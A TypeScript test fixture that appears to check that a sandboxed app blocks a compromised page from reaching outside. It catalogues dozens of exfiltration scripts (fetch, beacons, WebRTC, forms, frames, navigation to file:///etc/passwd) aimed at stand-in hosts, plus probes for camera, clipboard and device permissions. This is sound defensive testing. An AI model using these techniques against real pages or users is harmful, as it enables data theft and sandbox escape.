/**
 * Ways in which a page that was taken over would try to reach the outside. Each is run as page script with a person's
 * gesture; none may reach anything, open a window, or leave the app off its page. 203.0.113.0/24 is for documentation
 * (RFC 5737), `.example` never belongs to anybody (RFC 2606).
 */

/** One attempt: its name and the script. A script may throw: refused is as good as absent. */
export interface Attempt { readonly name: string; readonly script: string }

const OUT = 'http://203.0.113.9/canary'
const NAME = 'https://outside.example/canary'

const element = (tag: string, attributes: Readonly<Record<string, string>>): string =>
  `(() => { const made = document.createElement('${tag}'); ${Object.entries(attributes).map(([name, value]) => `made.setAttribute(${JSON.stringify(name)}, ${JSON.stringify(value)});`).join(' ')} document.body.append(made); return made })()`
const link = (rel: string, href: string, as = ''): string => element('link', { rel, href, ...(as === '' ? {} : { as }) })
const frame = (src: string): string => element('iframe', { src })
const clicked = (attributes: Readonly<Record<string, string>>): string => `${element('a', attributes)}.click()`

/** All of them. */
export const ATTEMPTS: readonly Attempt[] = [
  { name: 'fetch', script: `fetch('${OUT}')` },
  { name: 'XMLHttpRequest', script: `(() => { const asked = new XMLHttpRequest(); asked.open('GET', '${OUT}'); asked.send() })()` },
  { name: 'WebSocket', script: "new WebSocket('ws://203.0.113.9/')" },
  { name: 'EventSource', script: `new EventSource('${OUT}')` },
  { name: 'WebTransport', script: "new WebTransport('https://203.0.113.9/')" },
  { name: 'beacon', script: `navigator.sendBeacon('${OUT}', 'canary')` },
  { name: 'RTCPeerConnection', script: "(async () => { const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:203.0.113.9:3478' }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()) })()" },
  { name: 'image', script: element('img', { src: OUT }) },
  { name: 'image by name', script: element('img', { src: NAME }) },
  { name: 'image set', script: element('img', { srcset: `${OUT} 1x` }) },
  { name: 'video', script: element('video', { src: OUT, autoplay: '' }) },
  { name: 'object', script: element('object', { data: OUT }) },
  { name: 'embed', script: element('embed', { src: OUT }) },
  { name: 'svg image', script: `(() => { const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const image = document.createElementNS('http://www.w3.org/2000/svg', 'image'); image.setAttribute('href', '${OUT}'); svg.append(image); document.body.append(svg) })()` },
  { name: 'style sheet', script: link('stylesheet', OUT) },
  { name: 'style of a background', script: `document.body.style.backgroundImage = 'url(${OUT})'` },
  { name: 'imported style', script: `(() => { const sheet = new CSSStyleSheet(); sheet.insertRule('main { background: url(${OUT}) }'); document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet] })()` },
  { name: 'font', script: `new FontFace('out', 'url(${OUT})').load()` },
  { name: 'script of another origin', script: `(() => { const made = document.createElement('script'); made.src = '${OUT}'; document.body.append(made) })()` },
  { name: 'module of another origin', script: `import('${OUT}')` },
  { name: 'preconnect', script: link('preconnect', NAME) },
  { name: 'dns-prefetch', script: link('dns-prefetch', NAME) },
  { name: 'prefetch', script: link('prefetch', NAME) },
  { name: 'preload', script: link('preload', OUT, 'image') },
  { name: 'prerender', script: link('prerender', NAME) },
  { name: 'manifest', script: link('manifest', NAME) },
  { name: 'icon', script: link('icon', OUT) },
  { name: 'speculation rules', script: `(() => { const made = document.createElement('script'); made.type = 'speculationrules'; made.append('{"prefetch":[{"source":"list","urls":["${NAME}"]}],"prerender":[{"source":"list","urls":["${NAME}"]}]}'); document.head.append(made) })()` },
  { name: 'form', script: `${element('form', { action: OUT, method: 'post' })}.submit()` },
  { name: 'form into a new window', script: `${element('form', { action: OUT, target: '_blank' })}.submit()` },
  { name: 'meta refresh', script: element('meta', { 'http-equiv': 'refresh', content: `0;url=${OUT}` }) },
  { name: 'location to http', script: `location.href = '${OUT}'` },
  { name: 'location to a name', script: `location.assign('${NAME}')` },
  { name: 'location to localhost', script: "location.href = 'http://127.0.0.1:9/'" },
  { name: 'location to file', script: "location.href = 'file:///etc/passwd'" },
  { name: 'location to data', script: "location.href = 'data:text/html,out'" },
  { name: 'location to javascript', script: "location.href = 'javascript:document.title=\"taken\"'" },
  { name: 'location to blob', script: "location.href = URL.createObjectURL(new Blob(['<h2>out</h2>'], { type: 'text/html' }))" },
  { name: 'location to chrome', script: "location.href = 'chrome://settings/'" },
  { name: 'location to view-source', script: `location.href = 'view-source:${NAME}'` },
  { name: 'location to mailto', script: "location.href = 'mailto:somebody@outside.example'" },
  { name: 'location to tel', script: "location.href = 'tel:+000'" },
  { name: 'window.open', script: `window.open('${OUT}')` },
  { name: 'window.open of the original', script: `(() => { const made = document.createElement('iframe'); document.body.append(made); made.contentWindow.open('${OUT}') })()` },
  { name: 'peer connection of a blank window', script: "(async () => { const made = document.createElement('iframe'); document.body.append(made); const opened = made.contentWindow.open('about:blank'); const peer = new opened.RTCPeerConnection({ iceServers: [{ urls: 'stun:203.0.113.9:3478' }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()) })()" },
  { name: 'link into a new window', script: clicked({ href: OUT, target: '_blank' }) },
  { name: 'link with a ping', script: clicked({ href: '#/', ping: OUT }) },
  { name: 'link to mailto', script: clicked({ href: 'mailto:somebody@outside.example' }) },
  { name: 'download', script: clicked({ href: OUT, download: 'canary.txt' }) },
  { name: 'download of a blob', script: "(() => { const made = document.createElement('a'); made.href = URL.createObjectURL(new Blob(['attempt-download'])); made.download = 'canary.txt'; document.body.append(made); made.click() })()" },
  { name: 'frame of http', script: frame(OUT) },
  { name: 'frame of data', script: frame(`data:text/html,<img src=${OUT}>`) },
  { name: 'frame of a blob', script: "(() => { const made = document.createElement('iframe'); made.src = URL.createObjectURL(new Blob(['out'], { type: 'text/html' })); document.body.append(made) })()" },
  { name: 'frame of javascript', script: frame('javascript:parent.document.title="taken"') },
  { name: 'frame of a file', script: frame('file:///etc/passwd') },
  { name: 'frame of srcdoc', script: element('iframe', { srcdoc: `<img src="${OUT}"><script>parent.document.title="taken"</script>` }) },
  { name: 'frame that hands its own fetch out', script: `(() => { const made = document.createElement('iframe'); document.body.append(made); return made.contentWindow.fetch('${OUT}') })()` },
  { name: 'worker', script: "new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))" },
  { name: 'shared worker', script: "new SharedWorker('data:text/javascript,1')" },
  { name: 'service worker', script: "navigator.serviceWorker.register('/worker.js')" },
  { name: 'worklet', script: 'CSS.paintWorklet.addModule("data:text/javascript,1")' },
  { name: 'print', script: 'window.print()' },
  { name: 'share', script: "navigator.share({ text: 'canary', url: 'https://outside.example/' })" },
  { name: 'protocol handler', script: "navigator.registerProtocolHandler('web+canary', '/?%s')" },
]

/** Permissions that a page may ask for; each must be refused without a question to the person. */
export const PERMISSIONS: Readonly<Record<string, string>> = {
  geolocation: 'new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail))',
  notifications: "Notification.requestPermission().then((answer) => { if (answer !== 'granted') throw new Error(answer) })",
  camera: 'navigator.mediaDevices.getUserMedia({ video: true })',
  microphone: 'navigator.mediaDevices.getUserMedia({ audio: true })',
  screen: 'navigator.mediaDevices.getDisplayMedia()',
  midi: 'navigator.requestMIDIAccess({ sysex: true })',
  usb: 'navigator.usb.requestDevice({ filters: [] })',
  serial: 'navigator.serial.requestPort()',
  hid: 'navigator.hid.requestDevice({ filters: [] }).then((found) => { if (found.length === 0) throw new Error("none") })',
  bluetooth: 'navigator.bluetooth.requestDevice({ acceptAllDevices: true })',
  'clipboard reading': 'navigator.clipboard.readText()',
  'local fonts': 'queryLocalFonts().then((found) => { if (found.length === 0) throw new Error("none") })',
}

/** Script that runs one attempt and tells `ran`, or the class of what it threw. Nothing is waited for longer than a quarter second. */
export function attemptScript({ script }: Attempt): string {
  return `(async () => {
    try {
      const made = await Promise.race([(async () => ${script})(), new Promise((done) => setTimeout(done, 250))])
      return 'ran'
    } catch (thrown) { return thrown?.name ?? 'thrown' }
  })()`
}
